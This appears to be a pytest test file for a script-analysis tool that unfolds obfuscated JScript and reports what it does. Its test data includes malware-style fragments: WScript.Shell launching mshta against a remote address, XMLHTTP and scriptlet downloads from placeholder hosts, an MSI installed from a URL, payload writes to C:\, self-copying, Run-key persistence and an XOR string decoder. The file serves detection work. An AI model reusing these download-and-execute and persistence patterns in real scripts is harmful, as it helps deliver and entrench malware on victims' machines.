"""JavaScript with its disguise taken off, and ordinary JavaScript left alone."""

import base64
import random
from pathlib import Path

import pytest

from sekisho.analyzers._jscript_fold import unfold_jscript
from sekisho.analyzers._script import FEATURES
from sekisho.analyzers.jscript import analyze, recognise
from sekisho.model.artifact import Artifact, Feature
from sekisho.model.errors import LimitError, MalformedError

SHELL = 'var s=new ActiveXObject("WScr"+"ipt.Sh"+"ell");'
JQUERY = Path("/usr/share/javascript/jquery/jquery.min.js")
TEXTS = [
    ('"a"+"b"+\'c\'', '"abc"', "concat"),
    ("String.fromCharCode(105,101,120)", '"iex"', "char-code"),
    ("String.fromCharCode.apply(null,[105,101,120])+''", '"iex"', "char-code"),
    ('"\\x69\\x65\\x78"+""', '"iex"', "escape"),
    ('"\\u0069\\u0065\\u0078"', '"iex"', "escape"),
    ('unescape("%69%65%78")', '"iex"', "unescape"),
    ('"xei".split("").reverse().join("")', '"iex"', "reverse"),
    ('"iZeZx".replace(/Z/g,"")', '"iex"', "replace"),
    ('["x","i","e"][1]+["e"][0]+"x"', '"iex"', "array-lookup"),
    ('atob("aWV4")', '"iex"', "base64"),
    ('"zziexzz".substr(2,3)', '"iex"', "substring"),
    ('(function(a){return a+"x"})("ie")', '"iex"', ""),
    ("(0x24).toString(16)+''", '"24"', ""),
    ('1?"ie"+"x":"no"+"n"', '"iex"', ""),
]
CALLS = [
    (SHELL + 's.Run("c"+"md /c mshta http://203.0.113.4/a", 0);', "starts cmd /c mshta http://203.0.113.4/a"),
    (SHELL + 's["R"+"un"]("calc");', "starts calc"),
    ('WScript.CreateObject("WScript.Shell").Run("calc");', "starts calc"),
    (
        'var a=["htt","p://","a.example/x","GET"];var x=new ActiveXObject("MSXML2.XMLHTTP");x["op"+"en"](a[3],a[0]+a[1]+a[2],false);',
        "downloads http://a.example/x",
    ),
    ('var st=new ActiveXObject("ADODB.Stream");st.Open();st.SaveToFile("C:\\\\x.exe",2);', "writes C:\\x.exe"),
    (
        'var f=new ActiveXObject("Scripting.FileSystemObject");f.CreateTextFile("C:\\\\a.vbs").WriteLine("MsgBox 1");',
        "writes C:\\a.vbs",
    ),
    ('GetObject("winmgmts:root\\\\cimv2").Get("Win32_Process").Create("calc.exe")', "starts calc.exe"),
    ('new ActiveXObject("Shell.Application").ShellExecute("calc.exe","-x","","open",0)', "starts calc.exe -x"),
    ('function f(p){new ActiveXObject("WScript.Shell").Run(p, 0);}', "starts {p, 0}"),
    ('function f(p){var s=new ActiveXObject("ADODB.Stream");s.SaveToFile(p,2);}', "writes {p,2}"),
    ('function f(u){new ActiveXObject("MSXML2.XMLHTTP").open("GET",u,false);}', 'downloads {"GET",u,false}'),
    ('GetObject("script:http://192.0.2.1/a.sct")', "downloads http://192.0.2.1/a.sct"),
    ('GetObject("script:http://192.0.2.1/a.sct")', "starts script:http://192.0.2.1/a.sct"),
    (
        'new ActiveXObject("WindowsInstaller.Installer").InstallProduct("http://192.0.2.1/a.msi")',
        "downloads http://192.0.2.1/a.msi",
    ),
    (
        'new ActiveXObject("Scripting.FileSystemObject").CopyFile(WScript.ScriptFullName, "C:\\\\a.js")',
        "copies itself",
    ),
    ('new ActiveXObject("WScript.Shell").RegWrite("HKCU\\\\Run\\\\a","b")', "writes HKCU\\Run\\a"),
]
DECODER = (
    'function d(s,k){var r="";for(var i=0;i<s.length;i+=2){r+=String.fromCharCode(parseInt(s.substr(i,2),16)^k);}return r;}'
    'var u=d("6d7171753f2a2a642b607d64687569602a",5);'
)


@pytest.mark.parametrize(("script", "text", "trick"), TEXTS)
def test_text_comes_out(script, text, trick):
    unfolded = unfold_jscript(f"eval;x={script};")
    assert unfolded.text == f"eval;x={text};"
    assert not trick or trick in unfolded.tricks


@pytest.mark.parametrize(("script", "call"), CALLS)
def test_what_it_does(script, call):
    assert call in unfold_jscript(script).calls


@pytest.mark.parametrize(
    ("script", "words"),
    [
        (SHELL + 's.Run("pow"+"ershell x");', ["powershell"]),
        ("eval(String.fromCharCode(119,115,99,114,105,112,116));", ["wscript"]),
        ('new ActiveXObject("WScript.Shell").Run("powershell x");', []),
        ('var u="https:"+"//cdn.example/"+"a"+".js";', []),
        ('new ActiveXObject("WindowsInstaller.Installer").InstallProduct("C:\\a.msi");', []),
    ],
)
def test_what_only_unfolding_shows(script, words):
    found = analyze(Artifact("a.js", script.encode(), "a.js"))
    hidden = [one.value for one in found if isinstance(one, Feature) and one.name == "script.hidden"]
    assert hidden[-len(words) or len(hidden) :] == words
    assert bool(hidden) is bool(words)


def test_a_decoding_function_is_followed():
    unfolded = unfold_jscript(DECODER)
    assert [url.canonical for url in unfolded.urls] == ["http://a.example/"]
    assert "char-code" in unfolded.urls[0].hidden_by


@pytest.mark.parametrize(
    ("script", "kind", "data"),
    [
        ('eval(unescape("%76%61%72%20%78%3d%31"));', "jscript", b"var x=1"),
        ('new Function("a","return a+1")', "jscript", b"return a+1"),
        ('document.write(atob("' + base64.b64encode(b"<b>x</b>").decode() + '"))', "html", b"<b>x</b>"),
        ('var b=atob("' + base64.b64encode(b"MZ" + bytes(10)).decode() + '")', "", b"MZ" + bytes(10)),
        (SHELL + 's.Run("cmd /c calc")', "cmd", b"cmd /c calc"),
        (SHELL + 's.Run("powershell -e aQBlAHgA")', "powershell", b"powershell -e aQBlAHgA"),
    ],
)
def test_layers_come_out(script, kind, data):
    assert (kind, data) in [(layer.kind, layer.data) for layer in unfold_jscript(script).layers]


@pytest.mark.parametrize(
    "script",
    [
        'if(a){location.href="http://x.example/"+b}else{c?d:e}',
        "const f=(a,b)=>{return a+b}; f(1,2)",
        "let a=`abc ${x}`; [1,2,3].map(function(v){return v*2})",
        "$('#x').on('click',function(e){e.preventDefault();$.ajax({url:'/a',type:'GET'})});",
        "var re=/[/\"']+/g; var m=re.exec('x'); x = a / b / c;",
        "class A extends B { constructor(){ super(); this.x = 1 } get y(){ return this.x } }",
    ],
)
def test_ordinary_code_calls_nothing(script):
    unfolded = unfold_jscript(script)
    assert (unfolded.calls, unfolded.layers, unfolded.tricks) == ((), (), ())
    assert unfolded.text == script


@pytest.mark.skipif(not JQUERY.exists(), reason="no jQuery on this machine")
def test_jquery_calls_nothing_and_is_quick():
    unfolded = unfold_jscript(JQUERY.read_text(encoding="utf-8"))
    assert (unfolded.calls, unfolded.cut) == ((), "")


def test_what_a_loop_assigns_is_not_known_after_it():
    assert "xa" not in unfold_jscript("eval;var s='x';for(var i=0;i<n;i++){s+='a'}t=s+'b'").text.replace("'xa'", "")


def test_the_analyser_declares_what_it_yields():
    found = list(analyze(Artifact("a.js", CALLS[0][0].encode(), "a.js")))
    assert {item.name for item in found if isinstance(item, Feature)} <= set(FEATURES)
    assert [item.kind for item in found if isinstance(item, Artifact)] == ["cmd"]


def test_a_page_of_comments_is_told_at_once():
    page = b"<!-- a -->" * 500 + b"<html>"
    assert not recognise(Artifact("a.htm", page, "a.htm"))
    assert recognise(Artifact("a.wsf", b"<!-- a -->" * 500 + b"<job>", "a.wsf"))


def test_a_script_host_job():
    job = b'<job id="a"><script language="JScript"><![CDATA[var a=1;]]></script><script language="VBScript">x=1</script></job>'
    artifact = Artifact("a.wsf", job, "a.wsf")
    assert recognise(artifact)
    assert [(item.kind, item.data) for item in analyze(artifact) if isinstance(item, Artifact)] == [
        ("jscript", b"var a=1;"),
        ("vbscript", b"x=1"),
    ]


def test_an_encoded_script():
    block = b"#@~^IAAAAA==~U+.7+MR?1Db2Y:kh+KEO~{PFZT!Z!!,DwoAAA==^#~@"
    artifact = Artifact("a.jse", block, "a.jse")
    assert recognise(artifact)
    found = list(analyze(artifact))
    assert Feature("script.unfolded", " Server.ScriptTimeout = 1000000 ") in found
    assert Feature("script.tricks", "script-encoder") in found


@pytest.mark.parametrize(
    ("name", "data", "is_script"),
    [
        ("x", DECODER.encode(), True),
        ("a.js", b"alert(1);", True),
        ("a.json", b'{"a": "function (x) { return x; }", "b": 1}', False),
        ("a.html", b"<html><script>var a = 1;</script>", False),
        ("a.ps1", b"$a = New-Object X\nfunction f() { return $a; }", False),
        ("a.c", b"#include <x.h>\nint f(int a) { return a == 1; }", False),
        ("a.txt", b"Dear customer,\nplease return the form.\n", False),
        ("a.bin", bytes(100), False),
    ],
)
def test_recognised_by_content(name, data, is_script):
    assert recognise(Artifact(name, data, name)) is is_script


@pytest.mark.parametrize(
    "text",
    [
        "eval(" * 20_000,
        "eval;" + "[" * 50_000,
        "eval;" + "'a'+" * 50_000,
        "eval;" + "a?" * 20_000,
        "eval;" + "function(){" * 9_000,
        "eval;" + "!" * 9_000,
    ],
)
def test_depth_and_length_are_bounded(text):
    unfold_jscript(text)


def test_loops_are_bounded():
    unfold_jscript("eval;var s='a';for(var i=0;i<1000000;i++){s=s+s;for(var j=0;j<1000000;j++){s+='b'}}")


def test_mutations_raise_nothing_else():
    rng = random.Random(8)
    seeds = [DECODER] + [script for script, *_ in TEXTS + CALLS]
    pieces = [
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        "'",
        '"',
        "`",
        "/",
        "eval(",
        "=>",
        "for(",
        "?",
        "\\x",
        ",",
        "\ud800",
        "あ",
        "new ",
        "++",
    ]
    for _ in range(500):
        text = list(rng.choice(seeds))
        for _ in range(rng.randint(1, 7)):
            at = rng.randint(0, len(text))
            text[at : at + rng.randint(0, 5)] = rng.choice(pieces)
        try:
            list(analyze(Artifact("a.js", "".join(text).encode("utf-8", "replace"), "a.js")))
        except (MalformedError, LimitError):
            continue
